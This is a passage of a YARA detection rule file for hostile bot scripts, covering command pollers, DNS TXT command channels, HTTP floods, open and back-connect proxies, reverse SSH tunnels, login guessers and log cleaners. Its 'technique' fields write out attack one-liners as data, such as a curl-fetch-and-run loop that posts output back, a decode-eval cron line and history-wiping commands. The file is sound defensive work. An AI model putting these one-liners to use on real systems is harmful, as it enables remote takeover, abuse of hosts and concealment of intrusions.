        technique = "getUpdates + `$u->{message}{text}` + sendMessage (Perl); curl getUpdates + sh -c \"$cmd\" + curl sendMessage (shell); execSync(u.message.text) (Node); /channels/N/messages + subprocess.getoutput(m['content']) + webhook (Python)"
        seen = "train6"
    strings:
        // the orders read
        $rx1 = "getUpdates" ascii
        $rx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?channels\//
        $rx3 = "conversations.history" ascii
        // the answer
        $tx1 = "sendMessage" ascii
        $tx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?webhooks\/|\/channels\/[^\n]{0,80}\/messages/
        $tx3 = "chat.postMessage" ascii
        // a command line that is not a literal, per language
        $x1 = /`\$[\w{]/
        $x2 = /\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w/
        $x3 = /\b(system|shell_exec|passthru|popen|proc_open)\s{0,2}\(\s{0,2}\$\w/
        $x4 = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w/
        $x5 = /\beval\s{1,4}["']?\$\{?[a-zA-Z_]/
        $x6 = /\b(execSync|exec|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}(\[[^\]\n]{0,20}\]){0,2}[\w$.]{0,20}\s{0,2}[,)]/
        // (Python: a shell line; an argument list picked from a table of commands is not)
        $x7 = /\b(subprocess\.(getoutput|getstatusoutput)|os\.popen|os\.system|commands\.getoutput|create_subprocess_shell)\s{0,2}\(\s{0,2}[a-zA-Z_]|\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,160}\bshell\s{0,2}=\s{0,2}(True|1)\b/
        $x8 = /`#\{|%x[({\[]\s{0,2}#\{|\bIO\.popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\.\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
        $cp = "child_process" ascii
    condition:
        filesize < 1MB and (not hs_doc_file or hs_node_code) and any of ($rx*) and any of ($tx*) and
        (any of ($x1, $x2, $x3, $x4, $x5, $x7, $x8) or ($x6 and $cp))
}

/* An HTTP poller in shell: the order fetched into a variable ($(curl ..),
 * $(wget -qO- ..)), run by sh -c / eval, the output posted back with curl
 * or wget, in an endless sleeping loop. A deploy poller compares what it
 * fetched with a word and runs its own script. */
rule bot_shell_http_c2_poll : bot
{
    meta:
        description = "Shell HTTP command poller: a fetched command run with sh -c/eval and the output posted back, in a sleeping loop"
        severity = "high"
        technique = "while true; do c=$(curl -s $U/task); r=$(sh -c \"$c\" 2>&1); curl -s -d \"o=$r\" $U/out; sleep 60; done"
        seen = "train6"
    strings:
        $lp = /\b(while\s{1,4}(true|:|\[\s{1,2}1\s{1,2}\])|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b/
        $g = /\$\(\s{0,2}(curl|wget)\s[^\n)]{0,300}\)/
        $r = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w{1,30}|\beval\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}/
        $p = /\b(curl|wget)\s[^\n]{0,200}(\s-d\s|\s--data(-urlencode|-binary|-raw)?[\s=]|\s-F\s|\s--form\s|--post-(data|file))/
        $sl = /\bsleep\s{1,4}[0-9$]/
    condition:
        filesize < 256KB and hs_lang_shell and not hs_doc_file and $lp and $sl and
        for any i in (1..#r) : ( $g in (@r[i] - 800 .. @r[i]) and $p in (@r[i] .. @r[i] + 800) )
}

/* The same poller in Ruby: Net::HTTP/open-uri fetch, the answer run by
 * backticks, %x, system, IO.popen or Open3 (decoded or not), the output
 * posted back, in a loop that sleeps. */
rule bot_ruby_http_c2_poll : bot
{
    meta:
        description = "Ruby HTTP command poller: a fetched command run and the output posted back, in a sleeping loop"
        severity = "high"
        technique = "loop do; b = Net::HTTP.get(URI(U)); o = `#{Base64.decode64(b)} 2>&1`; Net::HTTP.post_form(URI(U), 'o' => o); sleep 75; end"
        seen = "train6"
    strings:
        $g = /\bNet::HTTP\s{0,2}\.\s{0,2}(get|get_response|start)\b|\bURI\s{0,2}\.\s{0,2}open\s{0,2}\(|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}get\b/
        $r = /`#\{|%x[({\[]\s{0,2}#\{|\b(system|exec|spawn)\s{0,2}\(?\s{0,2}[a-z_@$][\w.]{0,30}\s{0,2}(\)|\n)|\bIO\s{0,2}\.\s{0,2}popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\s{0,2}\.\s{0,2}\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
        $p = /\bNet::HTTP\s{0,2}\.\s{0,2}post(_form)?\s{0,2}\(|\bNet::HTTP::Post\s{0,2}\.\s{0,2}new\b|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}post\b/
        $lp = /\bloop\s{1,2}do\b|\bwhile\s{1,4}true\b|\buntil\s{1,4}false\b/
        $sl = /\bsleep\s{0,2}\(?\s{0,2}[0-9a-z_@]/
    condition:
        filesize < 512KB and not hs_doc_file and $lp and $sl and
        for any i in (1..#r) : ( $g in (@r[i] - 600 .. @r[i]) and $p in (@r[i] - 800 .. @r[i] + 800) )
}

/* An HTTP flood: many workers (threads, processes, background subshells,
 * requests fired in a loop on a timer), each sending requests without end
 * to a target, with a random cache-buster or a held-open body, errors
 * swallowed and answers thrown away. A load test runs a fixed number of
 * requests and measures them; a status poller sleeps between single
 * requests. */
rule bot_http_flood_workers : bot
{
    meta:
        description = "HTTP flood: endless request loops in many workers (threads, background subshells, timers) with random cache-busters, answers discarded"
        severity = "high"
        technique = "def h(): while True: urlopen(Request(url + '?' + rnd, headers={'User-Agent': choice(uas)})) except: pass; 400 x Thread(target=h) | for i in $(seq 1 $n); do ( while :; do curl -s -o /dev/null \"$t/?r=$RANDOM\"; done ) & done | setInterval(() => { for (i < 200) http.request({path: p + Math.random(), headers: {'Content-Length': 100000}}).write('a') })"
        seen = "train6"
    strings:
        // Python: an endless loop whose body sends a request
        $pl = /\bwhile\s{1,4}(True|1)\s{0,2}:/
        $pr = /\b(urlopen|requests\.(get|post|head|request)|httpx\.(get|post|stream)|\.request\s{0,2}\(\s{0,2}['"](GET|POST|HEAD)['"])\s{0,2}\(?|\b[a-z_]\w{0,20}\.(get|post|head)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)+]/
        $prnd = /\brandom\.(choice|randint|random|getrandbits|choices)\s{0,2}\(|\bos\.urandom\s{0,2}\(|\buuid\.uuid4\s{0,2}\(|\bsecrets\.token_\w{1,10}\s{0,2}\(/
        $pex = /\bexcept\b[^\n:]{0,40}:\s{0,4}(\n\s{0,16})?(pass|continue)\b/
        $pw = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}range\s{0,2}\([^\n]{0,60}\)\s{0,2}:\s{0,4}(\n\s{0,16})?[\w.]{0,40}(Thread|Process)\s{0,2}\(\s{0,2}target\s{0,2}=/
        // shell: a background subshell looping curl/wget with $RANDOM, started in a loop
        $sh1 = /\(\s{0,2}while\s{1,4}(:|true)\s{0,2};\s{0,2}do\s[^\n]{0,300}\b(curl|wget)\s[^\n]{0,300}\$RANDOM[^\n]{0,200}\bdone\s{0,2}\)\s{0,2}&/
        $sh2 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}(\$\(seq\s|\{1\.\.)/
        // Node: requests fired in a counted loop on a timer or in an endless loop, randomised, errors dropped
        $nt = /\bsetInterval\s{0,2}\(|\bwhile\s{0,2}\(\s{0,2}(true|1)\s{0,2}\)/
        $nf = /\bfor\s{0,2}\(\s{0,2}(let|var)\s{1,4}\w{1,10}\s{0,2}=\s{0,2}0\s{0,2};\s{0,2}\w{1,10}\s{0,2}<\s{0,2}[\w.]{1,30}\s{0,2};/
        $nr = /\bhttps?\s{0,2}\.\s{0,2}(request|get)\s{0,2}\(/
        $nrnd = "Math.random()" ascii
        $ne = /\.on\s{0,2}\(\s{0,2}['"]error['"]\s{0,2},\s{0,2}(\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}\{\s{0,2}\}|\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}(null|undefined|0)|function\s{0,2}\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}\{\s{0,2}\})/
    condition:
        filesize < 256KB and (not hs_doc_file or hs_node_code) and (
            (hs_lang_python and $pw and $pex and
             for any i in (1..#pl) : ( $pr in (@pl[i] .. @pl[i] + 500) and $prnd in (@pl[i] .. @pl[i] + 500) ))
            or (hs_lang_shell and $sh1 and $sh2 and @sh2[1] < @sh1[#sh1])
            or (hs_node_code and $nrnd and $ne and
                for any i in (1..#nt) : ( for any j in (1..#nf) : ( @nf[j] > @nt[i] and @nf[j] < @nt[i] + 200 and
                    $nr in (@nf[j] .. @nf[j] + 300) and $nrnd in (@nf[j] .. @nf[j] + 500) ) ))
        )
}

/* An open SOCKS5 proxy: a listening socket that answers the greeting with
 * "no authentication" (05 00), connects wherever the client asks (the
 * address read from the request, not a fixed upstream) and relays. It lets
 * anyone send mail and attacks from the host. */
rule bot_socks_open_relay : bot
{
    meta:
        description = "Script running an open SOCKS5 proxy: listens, answers 'no authentication', connects to the address the client sends and relays"
        severity = "high"
        technique = "srv.listen(); c.sendall(b'\\x05\\x00'); addr = inet_ntoa(c.recv(4)); r = create_connection((addr, port)); select relay | net.createServer(c => { c.write(Buffer.from([5, 0])); net.connect(port, host, () => { c.pipe(up); up.pipe(c) }) })"
        seen = "train6"
    strings:
        $l1 = /\.listen\s{0,2}\(|Listen\s{0,4}=>|\bnet\s{0,2}\.\s{0,2}createServer\s{0,2}\(|\bTCPServer\s{0,2}\.\s{0,2}new\b/
        $v1 = /\\x05\\x00['"]/
        $v2 = /Buffer\.from\s{0,2}\(\s{0,2}\[\s{0,2}(5|0x0?5)\s{0,2},\s{0,2}(0|0x0?0)\s{0,2}\]/
        $v3 = /\bpack\s{0,2}\(\s{0,2}['"]C2['"]\s{0,2},\s{0,2}(5|0x05)\s{0,2},\s{0,2}(0|0x00)\s{0,2}\)|\bchr\s{0,2}\(\s{0,2}5\s{0,2}\)\s{0,2}\.\s{0,2}chr\s{0,2}\(\s{0,2}0\s{0,2}\)/
        // the far end is what the client asked for: a variable address and port
        $c1 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)/
        $c2 = /\bnet\s{0,2}\.\s{0,2}(connect|createConnection)\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2},\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}[,)]/
        $c3 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}/
        $c4 = /\.connect\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
        // the relay: bytes copied both ways (select, Perl's 4-argument
        // select over vec(fileno), pipe, or a recv/send loop), not a thread started per client alone (a test server that
        // only answers the handshake)
        $r1 = /\bselect\.select\s{0,2}\(|IO::Select|\.pipe\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}\)|\bvec\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}fileno\b/
        $r2 = /\bwhile\b[^\n]{0,40}\n?[^\n]{0,120}\.recv\s{0,2}\([^\n]{0,200}\n?[^\n]{0,120}\.(sendall|send)\s{0,2}\(/
        // listening on loopback only: a developer's or a test suite's proxy
        $lo = /\.bind\s{0,2}\(\s{0,2}\(\s{0,2}['"](127\.0\.0\.1|localhost|::1)['"]|\b[A-Z_]{2,20}\s{0,2}=\s{0,2}\(\s{0,2}['"](127\.0\.0\.1|localhost|::1)['"]\s{0,2},\s{0,2}\d{2,5}\s{0,2}\)|LocalAddr\s{0,4}=>\s{0,4}['"](127\.0\.0\.1|localhost)|\.listen\s{0,2}\(\s{0,2}\w{1,20}\s{0,2},\s{0,2}['"](127\.0\.0\.1|localhost)['"]/
    condition:
        filesize < 512KB and (not hs_doc_file or hs_node_code) and $l1 and any of ($v*) and any of ($c*) and
        ($r1 or $r2) and not $lo
}

/* A relay steered from outside: a control connection sends "host:port",
 * the script connects there and to its controller again, and copies bytes
 * between the two (a back-connect proxy: the victim host carries the
 * controller's traffic, no port opened on it). */
rule bot_backconnect_proxy_relay : bot
{
    meta:
        description = "Back-connect proxy: targets read from a control connection, a connection opened to each and relayed to the controller"
        severity = "high"
        technique = "while (my $t = <$ctl>) { ($h, $p) = split /:/, $t; $up = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p); $dn = IO::Socket::INET->new(PeerAddr => C2); IO::Select sysread/syswrite }"
        seen = "train6"
    strings:
        $rd = /\bwhile\s{0,2}\(\s{0,2}(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}<\s{0,2}\$\w{1,30}\s{0,2}>|\.recv\s{0,2}\(\s{0,2}\d{1,5}\s{0,2}\)/
        $sp = /\bsplit\s{0,2}\(?\s{0,2}\/:\/|\.split\s{0,2}\(\s{0,2}['"]:['"]/
        $up1 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}PeerPort\s{0,4}=>\s{0,4}\$\w{1,30}/
        $up2 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}int\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
        $ctl = /PeerAddr\s{0,4}=>\s{0,4}['"][0-9a-zA-Z.-]{3,80}['"]|\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}['"][0-9a-zA-Z.-]{3,80}['"]/
        $sel = /IO::Select|\bselect\.select\s{0,2}\(|\bselectors\./
        $cp = /\bsyswrite\s{0,2}\(|\.sendall\s{0,2}\(/
    condition:
        filesize < 256KB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
        $rd and $sp and any of ($up*) and #ctl >= 1 and $sel and $cp and
        for any i in (1..#sp) : ( for any of ($up*) : ( $ in (@sp[i] .. @sp[i] + 300) ) )
}

/* An SSH tunnel kept up by a loop that publishes this host's sshd on the
 * far side (-R on all addresses to port 22) or opens a SOCKS hop (-D)
 * together with a remote forward, without checking the far host's key: a
 * way in for someone else. A developer's tunnel forwards a local port to a
 * database (-L) and checks the host key. */
rule bot_ssh_reverse_tunnel_loop : bot
{
    meta:
        description = "SSH reverse tunnel kept alive in a loop: the local sshd published on a remote host (-R to :22) or a remote forward with a SOCKS hop (-D), host keys unchecked"
        severity = "high"
        technique = "while true; do ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:20000:localhost:22 -D 127.0.0.1:20001 -i ~/.ssh/.k u@H; sleep 20; done"
        seen = "train6"
    strings:
        $r22 = /\b(auto)?ssh\s[^\n]{0,300}\s-R\s{0,2}['"]?((0\.0\.0\.0|\*|\[::\])?:)?\d{2,5}:(localhost|127\.0\.0\.1|\[::1\]):22\b/
        $rd = /\b(auto)?ssh\s[^\n]{0,300}(\s-R\s[^\n]{0,200}\s-D\s|\s-D\s[^\n]{0,200}\s-R\s)/
        $nk = /StrictHostKeyChecking[\s=]{1,3}no\b/
        $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bautossh\s/
    condition:
        filesize < 128KB and not hs_doc_file and (any of ($r22, $rd)) and $nk and $lp
}

/* A login guesser in Python: credential pairs read from a file (a combo
 * line split on ':' or '|'), each tried by a login call that takes both as
 * variables (SSH connect with the user and password positional, a login
 * form POSTed with the password field from a variable, ftplib/smtplib/
 * imaplib login), the hits appended to a file. A deploy tool logs in with
 * a key to a fixed host list; a site's own tests post one literal login. */
rule bot_combo_login_guesser : bot hacktool
{
    meta:
        description = "Login guesser: user/password pairs from a combo file tried by SSH, a web login form or a mail/FTP login, hits written to a file"
        severity = "high"
        technique = "combos = [l.split(':', 1) for l in open(argv[2])]; c.connect(h, 22, u, p) .. open('.good', 'a') | host, user, pw = line.split('|'); requests.post(U, data={'user': user, 'pass': pw}); open('hits.txt', 'a')"
        seen = "train6"
    strings:
        $sp = /\.split\s{0,2}\(\s{0,2}['"][:|;]['"]/
        $rf = /\bopen\s{0,2}\(\s{0,2}sys\.argv\s{0,2}\[|\bfileinput\.input\s{0,2}\(|\bsys\.stdin\b|\.readlines\s{0,2}\(/
        $lg1 = /\.connect\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}(\d{2,5}|[a-z_]\w{0,30})\s{0,2},\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}[a-z_]\w{0,30}\s{0,2}[,)]/
        $lg2 = /['"](pass(word|wd)?|pwd|passwd|login_password|log_pass)['"]\s{0,2}:\s{0,2}[a-z_]\w{0,30}\s{0,2}[,}]/
        $lg3 = /\.connect\s{0,2}\([^)\n]{0,160}\bpassword\s{0,2}=\s{0,2}[a-z_]\w{0,30}\s{0,2}[,)]|\.login\s{0,2}\(\s{0,2}[a-z_][\w.\[\]]{0,30}\s{0,2},\s{0,2}[a-z_][\w.\[\]]{0,30}\s{0,2}\)/
        $hit = /\bopen\s{0,2}\([^)\n]{1,80},\s{0,2}['"]a\+?['"]\s{0,2}\)/
    condition:
        filesize < 256KB and not hs_doc_file and hs_lang_python and $sp and $rf and any of ($lg*) and $hit
}

/* WordPress XML-RPC password guessing: a wp.getUsersBlogs (or
 * system.multicall) call built with a user and a word from lists and
 * POSTed to every site's xmlrpc.php. WordPress itself answers the method;
 * it never writes the call. */
rule bot_xmlrpc_login_guesser : bot hacktool
{
    meta:
        description = "WordPress XML-RPC login guesser: wp.getUsersBlogs calls built from user and word lists, POSTed to xmlrpc.php"
        severity = "high"
        technique = "foreach ($words as $w) { $x = '<methodCall><methodName>wp.getUsersBlogs</methodName>..<value>' . $u . '</value>..' . $w ..; curl POST site/xmlrpc.php; if isAdmin -> save }"
        seen = "train6"
    strings:
        $m = /<methodName>\s{0,2}(wp\.getUsersBlogs|wp\.getProfile|metaWeblog\.getUsersBlogs|system\.multicall)\s{0,2}<\/methodName>/
        $v = /<value>(<string>)?\s{0,2}['"]\s{0,2}\.\s{0,2}\$\w{1,30}|<value>(<string>)?\{?\$\w{1,30}|<value>(<string>)?%s|<value>(<string>)?\{\w{0,20}\}/
        $x = "xmlrpc.php" ascii
        $l1 = /\bforeach\s{0,2}\(|\bfor\s{1,4}\w{1,20}\s{1,4}in\b|\bwhile\s{0,2}\(/
        $l2 = /\bfile\s{0,2}\(\s{0,2}\$(argv|_GET|_POST|_FILES)|\bfgets\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}sys\.argv|\breadlines\s{0,2}\(/
    condition:
        filesize < 256KB and not hs_doc_file and $m and #v >= 2 and $x and $l1 and $l2
}

/* `php -r` run with an encoded payload: a one-liner (a crontab line, a
 * shell wrapper, an rc file) that decodes a blob and evals it. Perl's and
 * Python's one-liners are bot_decode_eval_script's; a PHP file's own eval
 * is the PHP layer's. An artisan or wp-cli line runs a file, not a blob. */
rule bot_php_oneliner_decode_eval : bot obfuscation
{
    meta:
        description = "php -r one-liner that decodes a blob (base64, gzinflate, rot13, hex) and evals it, in a crontab, shell script or rc file"
        severity = "high"
        technique = "17 * * * * php -r 'eval(gzinflate(base64_decode(\"...\")));'"
        seen = "train6"
    strings:
        $r = /\bphp[0-9.]{0,4}(\s{1,4}-[a-zA-Z](\s{1,4}[^\s-][^\s]{0,60})?){0,4}\s{1,4}-r\s{0,4}["'][^\n]{0,200}\b(eval|assert|create_function)\s{0,2}\(\s{0,2}(@\s{0,2})?(gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|hex2bin|strrev|convert_uudecode)\s{0,2}\(/
    condition:
        filesize < 512KB and not hs_doc_file and $r
}

/* ---- train7 round (branch fix7-bot, seen = "train7"): written from the
 * techniques of the misses of train7 seeds 2 and 3 and hand-written variants
 * (tests/fixtures/scripts/{malicious,benign}/t7_*); docs/script-rules.md
 * "The train7 round". */

/* A shell loop that runs what a fetch returns: `c=$(curl URL)` (or wget, or
 * a DNS TXT answer) and `sh -c "$c"` / `eval "$c"` a few lines later, in a
 * loop that sleeps. bot_shell_http_c2_poll also wants the output posted back;
 * a loader that only runs its orders needs none. An uptime loop looks at a
 * status code and never runs the answer. */
rule bot_shell_fetched_command_loop : bot
{
    meta:
        description = "Shell loop running what a fetch returns (sh -c / eval of a curl, wget or DNS answer), sleeping between rounds"
        severity = "high"
        technique = "while :; do c=$(curl -fsk URL) && [ -n \"$c\" ] && sh -c \"$c\"; sleep 200; done | until false; do x=`wget -qO- U`; eval \"$x\"; sleep 60; done"
        seen = "train7"
    strings:
        $lp = /\b(while\s{1,4}(true|:|\[\s{1,2}1\s{1,2}\]|\[\s{1,2}1\s{1,2}=\s{1,2}1\s{1,2}\])|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bfor\s{0,2}\(\(\s{0,2};\s{0,2};\s{0,2}\)\)/
        $g = /(\$\(|`)\s{0,2}(curl|wget|dig|host|nslookup|drill|kdig|fetch|lwp-request|GET)\s/
        $r = /\b(sh|bash|dash|zsh|ksh)\s{1,4}-c\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}|\beval\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}|\bsource\s{1,4}<\(\s{0,2}(echo|printf)[^\n)]{0,20}\$\{?[a-zA-Z_]/
        $sl = /\bsleep\s{1,4}["'$(0-9]/
    condition:
        filesize < 256KB and (not hs_doc_file or extension == "txt") and $lp and $sl and
        for any i in (1..#r) : ( $g in (@r[i] - 400 .. @r[i]) )
}

/* The HTTP poller without a report: Python, Perl or Ruby code fetching an
 * order and running it as a shell command (a non-literal argument) within a
 * few lines, in an endless loop that sleeps. bot_http_c2_poll also wants the
 * output posted back; bot_shell_fetched_command_loop reads shell, the PHP
 * layer reads PHP, node.yar Node. A deploy poller runs its own fixed command
 * (an argument list) when a version changes. Strings as bot_http_c2_poll's. */
rule bot_script_fetched_command_loop : bot
{
    meta:
        description = "Script loop running a fetched order as a shell command, sleeping between polls (no report needed)"
        severity = "high"
        technique = "while True: c = urlopen(U).read().decode(); subprocess.run(c, shell=True); time.sleep(120) | while (1) { my $c = get(U); system($c) if $c; sleep 120 }"
        seen = "train7"
    strings:
        $g = /\b(file_get_contents|fopen)\s{0,2}\(\s{0,2}(\$\w{1,30}|['"]https?:\/\/)|\bcurl_exec\s{0,2}\(|\brequests\.(get|post)\s{0,2}\(|\burlopen\s{0,2}\(|->\s{0,2}(get|request)\s{0,2}\(\s{0,2}["$]|\bLWP::Simple::get\s{0,2}\(|\bget\s{0,2}\(\s{0,2}["']https?:|\b(print|send|sendall|syswrite)\s{0,2}\(?\s{0,2}[$\w.{}]{1,30}\s{0,2},?\s{0,2}b?["']GET \//
        $r = /\b(shell_exec|system|passthru|popen|proc_open|exec)\s{0,2}\(\s{0,2}\$\w{1,30}(\[|->|\s{0,2}[),.])|\bsubprocess\.(run|call|check_output|check_call|Popen)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,120}\bshell\s{0,2}=\s{0,2}True|\b(subprocess\.(getoutput|getstatusoutput)|commands\.getoutput|os\.(popen|system))\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$\w{1,30}( 2>&1)?`|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}|\bsystem\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}[);]/
        $sl = /\b(u?sleep|time\.sleep)\s{0,2}[\( ]/
        $lp = /\bwhile\s{0,2}\(\s{0,2}(1|true|TRUE|True)\s{0,2}\)|\bfor\s{0,2}\(\s{0,2};\s{0,2};\s{0,2}\)|\bwhile\s{1,2}(True|1)\s{0,2}:/
    condition:
        filesize < 512KB and not hs_doc_file and $sl and $lp and
        for any i in (1..#g) : ( for any j in (1..#r) : ( @r[j] > @g[i] and @r[j] < @g[i] + 600 ) )
}

/* A DNS TXT command channel: a TXT record fetched (dig, host, nslookup,
 * drill; dns_get_record(DNS_TXT), dnspython, Net::DNS, Node's resolveTxt,
 * Ruby's Resolv), decoded (base64, hex) and run as a command. An SPF or
 * DKIM checker reads TXT records and compares or prints them. */
rule bot_dns_txt_command_channel : bot
{
    meta:
        description = "DNS TXT command channel: a TXT record fetched, decoded and run as a command"
        severity = "high"
        technique = "t=`host -t txt cmd.$zone`; system(decode_base64($1)) | c=$(dig +short TXT x.zone | base64 -d); eval \"$c\" | dns_get_record(n, DNS_TXT) + base64_decode + shell_exec | nslookup -type=TXT + b64decode + getoutput"
        seen = "train7"
    strings:
        $q1 = /\b(dig|host|nslookup|drill|kdig|delv)\b[^\n]{0,80}(\b(TXT|txt)\b|-t\s{0,2}(TXT|txt)\b|-(q|query)?type=(TXT|txt)\b)/
        $q2 = /\bdns_get_record\s{0,2}\([^\n)]{0,120}DNS_TXT\b/
        $q3 = /\b(resolve|query|search|resolver\.query|resolver\.resolve)\s{0,2}\([^\n)]{0,120}['"](TXT|txt)['"]/
        $q4 = /\bresolveTxt(Sync)?\s{0,2}\(|Resolv::DNS::Resource::IN::TXT\b|\brdatatype\.TXT\b/
        // decoded
        $d = /\bbase64\s{1,4}(-d|--decode|-D)\b|\b(b64decode|decode_base64|base64_decode|decode64|unhexlify|hex2bin|fromhex|unpack)\b|\bxxd\s{1,4}-r|Buffer\.from\s{0,2}\([^\n]{0,60}['"](base64|hex)['"]/
        // run: a command function on a variable (PHP, Perl, Python, Node, Ruby, shell)
        $x = /\b(system|exec|shell_exec|passthru|popen|proc_open|execSync|spawnSync)\s{0,2}\(\s{0,2}\$?[a-zA-Z_]\w{0,30}\s{0,2}[),.+]|\bsubprocess\.(getoutput|getstatusoutput|run|call|Popen|check_output)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)]|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$[a-zA-Z_]\w{0,30}`|\bqx\s{0,2}[\(\{]\s{0,2}\$|\beval\s{1,4}["']?\$\{?[a-zA-Z_]|\b(sh|bash)\s{1,4}-c\s{1,4}["']?\$\{?[a-zA-Z_]|\|\s{0,4}(ba)?sh\b|%x[({]\s{0,2}#\{|`#\{/
        // a shell loop: code, even in a .txt
        $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b/
    condition:
        filesize < 256KB and (not hs_doc_file or hs_node_code or (extension == "txt" and $lp)) and
        for any of ($q1, $q2, $q3, $q4) : ( for any i in (1..#) : (
            $d in (@[i] - 200 .. @[i] + 800) and $x in (@[i] - 200 .. @[i] + 1200) ) )
}

/* A log cleaner: the shell history destroyed (linked to /dev/null,
 * truncated, HISTFILE off) together with web or system logs rewritten
 * without the intruder's lines (sed -i '/IP/d', grep -v IP log > t; a Perl
 * or Python rewrite that drops matching lines) or files' times put back
 * (touch -r/-d, utime). A log rotation compresses and empties whole logs and
 * never touches the history. */
rule bot_log_history_cleaner : bot
{
    meta:
        description = "Log cleaner: shell history destroyed and logs rewritten without chosen lines, or file times forged"
        severity = "high"
        technique = "sed -i '/IP/d' ~/logs/*.log; ln -sf /dev/null ~/.bash_history; touch -r index.php *.php | Perl grep {!/IP/} + utime | Python lines filtered + os.utime + os.truncate('.bash_history')"
        seen = "train7"
    strings:
        // the history
        $h1 = /\bln\s{1,4}-[sfn]{1,3}\s{1,4}\/dev\/null\s{1,4}[^\n]{0,60}_history\b/
        $h2 = /\bsymlink\s{0,2}\(?\s{0,2}['"]\/dev\/null['"]\s{0,2},\s{0,2}[^\n]{0,60}_history\b/
        $h3 = /(^|[\n;&|]|\bcat\s{1,4}\/dev\/null|\becho\s{0,4}(-n\s{0,4})?(''|"")?|:)\s{0,4}>\s{0,4}["']?(~|\$HOME|\$\{HOME\}|\/root|\/home\/[\w.-]{1,32})\/\.(bash|zsh|sh|mysql|python|psql)_history\b/
        $h4 = /\bHISTFILE=\/dev\/null\b|\bunset\s{1,4}HISTFILE\b|\bhistory\s{1,4}-c\b/
        $h5 = /\b(os\.)?(truncate|unlink|remove|ftruncate)\s{0,2}\([^\n]{0,80}_history\b|['"]\.(bash|zsh|mysql|python)_history['"][^\n]{0,200}(\n[^\n]{0,200}){1,3}\b(os\.)?(truncate|unlink|remove)\s{0,2}\(|\bunlink\s{0,2}\(?\s{0,2}["'][^\n"']{0,40}_history\b|\brm\s{1,4}-[rf]{1,2}\s{1,4}[^\n]{0,40}_history\b/
        // the logs rewritten without chosen lines
        $l1 = /\bsed\s{1,4}-i[^\n]{0,20}\s["']?\/[^\n]{1,200}\/d\b[^\n]{0,200}(log|_log)\b/
        $l2 = /\bgrep\s{1,4}-[a-zA-Z]{0,3}v[a-zA-Z]{0,3}\s[^\n]{0,120}>\s{0,2}["']?\$\{?\w{1,30}/
        $l3 = /\bgrep\s{0,2}\{\s{0,2}!\s{0,2}\/|\bif\s{1,4}not\s{1,4}[\w.]{1,40}\.(search|match)\s{0,2}\(/
        $lg = /\/logs?\/|access[-_]logs?\b|\berror_log\b|\/var\/log\/|\b(wtmp|btmp|lastlog|utmp)\b/
        // or file times put back
        $t = /\btouch\s{1,4}(-[acm]{1,3}\s{1,4})?-(r|d|t)\s|\btouch\s{1,4}--(reference|date)[= ]|\butime\s{0,2}\(?\s{0,2}\$|\bos\.utime\s{0,2}\(|\btouch\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$/
    condition:
        filesize < 256KB and not hs_doc_file and any of ($h*) and
        ((any of ($l*) and $lg) or $t)
}

